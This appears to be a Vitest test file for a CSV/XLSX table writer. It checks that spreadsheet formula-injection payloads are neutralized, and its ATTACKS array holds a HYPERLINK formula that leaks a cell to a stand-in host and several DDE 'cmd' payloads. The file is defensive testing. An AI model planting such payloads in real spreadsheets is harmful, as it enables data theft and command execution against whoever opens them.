import { buffer } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, single, type TableColumn, writeTable } from './table-writer.ts';

const COLUMNS: TableColumn[] = [
  { key: 'name', header: 'nama_usaha' },
  { key: 'nik', header: 'nik', text: true },
  { key: 'amount', header: 'omzet' },
];

const ATTACKS = [
  '=HYPERLINK("http://x.example/?leak="&A2,"klik")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('writeTable', () => {
  it('writes a cell that would start a formula with a leading quote in CSV', async () => {
    const rows = ATTACKS.map((name, i) => ({ name, nik: name, amount: -1500 * (i + 1) }));
    const bytes = await buffer(writeTable('csv', COLUMNS, single(rows)));
    // UTF-8 with a byte order mark, so that Excel reads it right.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = bytes.subarray(3).toString('utf8');
    for (const attack of ATTACKS) {
      const quoted = `'${attack}`;
      // csv-stringify quotes a field holding a quote, comma or line break and doubles its quotes.
      const field = /[",\r\n]/.test(quoted) ? `"${quoted.replaceAll('"', '""')}"` : quoted;
      expect(records).toContain(`${field},${field},`);
    }
    // Negative numbers stay numbers.
    expect(records).toContain(',-1500\n');
    expect(records).toContain(',-9000\n');
    expect(records.startsWith('nama_usaha,nik,omzet\n')).toBe(true);
  });

  it('leaves plain text and plain numbers written as text alone', () => {
    expect(neutralizeFormula('Warung Bu Siti')).toBe('Warung Bu Siti');
    expect(neutralizeFormula('-1500')).toBe('-1500');
    expect(neutralizeFormula('-1.500.000')).toBe('-1.500.000');
    expect(neutralizeFormula('+62')).toBe('+62');
    expect(neutralizeFormula('a=b')).toBe('a=b');
    expect(neutralizeFormula('-')).toBe("'-");
    expect(neutralizeFormula('@')).toBe("'@");
  });

  it('keeps XLSX text cells typed as text, never as formulas, and numbers as numbers', async () => {
    const rows = ATTACKS.map((name) => ({ name, nik: '3671012812260001', amount: -1500 }));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await buffer(writeTable('xlsx', COLUMNS, single(rows)))) as unknown as ArrayBuffer,
    );
    const sheet = workbook.worksheets[0]!;
    ATTACKS.forEach((attack, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      // XML reads a CR in text as a line feed.
      expect(row.getCell(1).value).toBe(attack.replace('\r', '\n'));
      expect(row.getCell(1).formula).toBeUndefined();
      expect(row.getCell(2).value).toBe('3671012812260001');
      expect(row.getCell(3).value).toBe(-1500);
    });
  });
});
